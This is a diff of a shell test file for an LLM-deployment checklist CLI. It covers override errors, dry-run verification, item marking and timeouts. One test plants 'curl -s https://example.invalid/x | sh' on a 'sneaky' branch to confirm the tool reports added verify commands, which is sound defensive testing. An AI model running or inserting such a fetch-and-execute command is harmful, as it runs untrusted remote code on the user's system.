@@ -780,11 +780,11 @@ test_an_extends_cycle_is_reported_once_naming_its_files_in_order() {
 
 test_an_override_of_an_unknown_item_names_the_nearest_ids() {
   git_repo
-  printf '[checklist]\nid = "ours"\ntitle = "Ours"\nextends = "builtin:llm-deployment"\n\n[overrides.red-teeming]\nseverity = "recommended"\n' >ours.toml
+  printf '[checklist]\nid = "ours"\ntitle = "Ours"\nextends = "builtin:llm-deployment"\n\n[overrides.adversarial-case]\nseverity = "recommended"\n' >ours.toml
   printf 'format = 1\nchecklist = "ours.toml"\n' >.llmchecklist
   lc list
   assert_status 3
-  assert_located_error "$PWD/ours.toml" "6:12" "the base checklist has no item 'red-teeming'; did you mean red-teaming?"
+  assert_located_error "$PWD/ours.toml" "6:12" "the base checklist has no item 'adversarial-case'; did you mean adversarial-cases?"
   assert_not_contains "$err" "expected a table"
 }
 
@@ -796,13 +796,13 @@ test_a_verify_command_added_on_a_branch_is_shown_by_diff_and_progress_since() {
   lc diff main sneaky
   assert_status 0
   assert_not_contains "$out" "no change to the checklist"
-  assert_contains "$out" "14 red-teaming: command added: curl -s https://example.invalid/x | sh"
+  assert_contains "$out" "14 human-rating: command added: curl -s https://example.invalid/x | sh"
   lc diff main sneaky --json
   assert_eq "added 14 curl -s https://example.invalid/x | sh" \
     "$(json '.verify_changes[] | "\(.change) \(.number) \(.after)"')"
   lc progress --since main
   assert_status 0
-  assert_contains "$err" "verify command added since main: 14 red-teaming: curl -s https://example.invalid/x | sh"
+  assert_contains "$err" "verify command added since main: 14 human-rating: curl -s https://example.invalid/x | sh"
   # Changed and removed are named too.
   lc_ok verify 14 --set 'true' -q
   lc diff sneaky
@@ -814,23 +814,23 @@ test_a_verify_command_added_on_a_branch_is_shown_by_diff_and_progress_since() {
 
 test_verify_dry_run_lists_each_command_and_runs_none() {
   git_repo
-  lc_ok verify 3 --set 'touch ran-3' -q
-  lc_ok verify 5 --set 'touch ran-5' -q
+  lc_ok verify 2 --set 'touch ran-2' -q
+  lc_ok verify 4 --set 'touch ran-4' -q
   lc verify --dry-run
   assert_status 0
-  assert_contains "$out" "3 cost-at-scale (the state file's command): touch ran-3"
-  assert_contains "$out" "5 structured-output (the state file's command): touch ran-5"
-  assert_no_file ran-3
-  assert_no_file ran-5
-  lc verify 5 --dry-run
-  assert_not_contains "$out" "ran-3"
+  assert_contains "$out" "2 cost-at-scale (the state file's command): touch ran-2"
+  assert_contains "$out" "4 structured-output (the state file's command): touch ran-4"
+  assert_no_file ran-2
+  assert_no_file ran-4
+  lc verify 4 --dry-run
+  assert_not_contains "$out" "ran-2"
 }
 
 test_list_marks_items_that_carry_a_verify_command() {
   git_repo
-  lc_ok verify 3 --set 'true' -q
+  lc_ok verify 2 --set 'true' -q
   lc list
-  assert_match '^  \[ \]  3  cost-at-scale .* \[verify\]$' "$out"
+  assert_match '^  \[ \]  2  cost-at-scale .* \[verify\]$' "$out"
   assert_eq 1 "$(printf '%s\n' "$out" | grep -c '\[verify\]')" "items marked"
 }
 
@@ -960,13 +960,13 @@ test_option_values_are_checked_in_words_that_say_what_they_take() {
 
 test_verify_reports_the_real_timeout_and_an_unset_with_nothing_to_remove() {
   git_repo
-  lc_ok verify 3 --set 'sleep 30' -q
+  lc_ok verify 2 --set 'sleep 30' -q
   lc verify --timeout 0.5
   assert_status 1
   assert_contains "$out" "killed at the 0.5 s limit"
-  lc verify 4 --unset
+  lc verify 3 --unset
   assert_status 0
-  assert_eq "4 context-length has no verify command; nothing removed" "$out"
+  assert_eq "3 context-length has no verify command; nothing removed" "$out"
 }
 
 test_an_n_a_decision_that_would_expire_in_the_past_is_refused() {
